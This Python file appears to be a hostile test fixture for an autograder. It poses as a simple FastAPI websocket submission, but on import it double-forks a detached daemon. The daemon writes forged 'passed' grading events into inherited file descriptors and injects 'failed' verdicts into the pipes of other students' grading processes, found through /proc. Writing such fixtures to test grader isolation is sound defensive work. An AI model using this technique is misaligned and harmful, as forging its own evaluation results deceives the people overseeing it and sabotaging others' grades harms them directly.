# attack: a setsid daemon (4 s) that later forges verdicts: passed into inherited fds, failed into the event pipes of the next grading processes (the classmate's)
# honest: fail
# ruff: noqa
import json
import os
import posix
import sys

from fastapi import FastAPI, WebSocket, WebSocketDisconnect


# --- test rig: tests/test_trust.py says where things are, in the environment and in
# "# hostile-<key>: <value>" lines it appends to this file. Attempts only ever touch
# paths inside its throwaway folder (the one holding a HOSTILE_PLAYGROUND file). ---
def _rig(key):
    value = os.environ.get("HOSTILE_" + key.upper().replace("-", "_"))
    if value:
        return value
    try:
        with open(__file__, encoding="utf-8") as source:
            for line in source:
                if line.startswith(f"# hostile-{key}: "):
                    return line.split(": ", 1)[1].strip()
    except OSError:
        pass
    return None


def _playground(path):
    folder = os.path.realpath(path)
    while True:
        if os.path.exists(os.path.join(folder, "HOSTILE_PLAYGROUND")):
            return True
        parent = os.path.dirname(folder)
        if parent == folder:
            return False
        folder = parent


def _daemonize(code, *args):
    """Classic double fork: setsid, fork again, exec a fresh interpreter that outlives the grading run."""
    marker = _rig("marker") or "none"
    try:
        first = os.fork()
    except OSError:
        return
    if first:
        try:
            os.waitpid(first, 0)
        except OSError:
            pass
        return
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", code, f"hostile-{marker}", *args])
    except BaseException:
        pass
    posix._exit(0)


# The verdicts I would like, in the grader's own event format.
CHECKS = [("answers a message", 2), ("answers many messages on one connection", 3),
          ("serves two clients at once", 2), ("ends cleanly when the client leaves", 3)]


def forged(scale=1):
    lines = [json.dumps({"event": "check", "index": i,
                         "result": {"name": name, "status": "passed", "max_points": points,
                                    "points": points * scale, "failure": None}})
             for i, (name, points) in enumerate(CHECKS)]
    lines.append(json.dumps({"event": "done"}))
    return ("\n".join(lines) + "\n").encode()


def _failed():
    lines = [json.dumps({"event": "check", "index": i,
                         "result": {"name": name, "status": "failed", "max_points": points, "points": 0,
                                    "failure": {"kind": "mismatch", "message": "nope"}}})
             for i, (name, points) in enumerate(CHECKS)]
    lines.append(json.dumps({"event": "done"}))
    return ("\n".join(lines) + "\n").encode()


DAEMON = r"""
import os, sys, time
token, canary, passed, failed = sys.argv[1], sys.argv[2], sys.argv[3].encode(), sys.argv[4].encode()
marker = token.split("-", 1)[1].encode()
me = os.getpid()

def ours(pid):
    if pid <= 1 or pid == me or marker == b"none":
        return False
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                if marker in f.read():
                    return True
        except OSError:
            pass
    return False

def playground(path):
    folder = os.path.realpath(path)
    while os.path.dirname(folder) != folder:
        if os.path.exists(os.path.join(folder, "HOSTILE_PLAYGROUND")):
            return True
        folder = os.path.dirname(folder)
    return False

try:
    with open(f"daemon-{me}.pid", "w") as out:
        out.write(f"{me}\n")
except OSError:
    pass
end = time.monotonic() + 4
while time.monotonic() < end:
    time.sleep(0.05)
    for fd in range(3, 64):
        try:
            os.write(fd, passed)
        except OSError:
            pass
    for name in os.listdir("/proc"):
        if not name.isdigit() or not ours(int(name)):
            continue
        try:
            fds = os.listdir(f"/proc/{name}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{name}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                w = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(w, failed)
                os.close(w)
            except OSError:
                pass
    if canary and playground(canary):
        try:
            with open(os.path.join(canary, "later.txt"), "a") as out:
                out.write("the daemon was here\n")
        except OSError:
            pass
"""

_daemonize(DAEMON, _rig("canary-dir") or "", forged().decode(), _failed().decode())


app = FastAPI()


@app.websocket("/ws")
async def ws(websocket: WebSocket):
    await websocket.accept()
    try:
        while True:
            await websocket.receive_text()
            await websocket.send_text("ok")
    except WebSocketDisconnect:
        pass
